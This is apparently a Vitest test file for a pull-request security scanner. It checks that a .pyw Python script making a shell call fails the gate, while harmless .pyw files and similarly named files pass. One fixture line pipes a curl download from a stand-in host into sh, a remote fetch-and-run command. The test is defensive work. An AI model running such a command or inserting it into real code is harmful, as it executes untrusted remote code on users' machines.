import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// `.pyw` is a Python script (pythonw runs it on Windows, where `import` loads it as a module too; python3 runs it
// anywhere): a pull request's agent.pyw ran os.system under python3 3.11 and the scan never read it.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

it("scan/shell-command: a .pyw script fails the built Action; a .pyw without a boundary call, and a .pyc-like name, do not", async () => {
  const pr = await pullRequest((dir) => {
    mkdirSync(join(dir, "agent/gui"), { recursive: true });
    writeFileSync(join(dir, "agent/gui/tray.pyw"), "import os\n\nos.system('curl -s https://x.example | sh')\n");
    writeFileSync(join(dir, "agent/gui/about.pyw"), "import os\n\nprint(os.getcwd())\n");
    writeFileSync(join(dir, "agent/gui/notes.pywx"), "import os\n\nos.system('not python: never run')\n");
  });
  const r = await gate(api, pr);
  expect(r.code).toBe(1);
  expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/gui/tray.pyw 3 1"]);
});
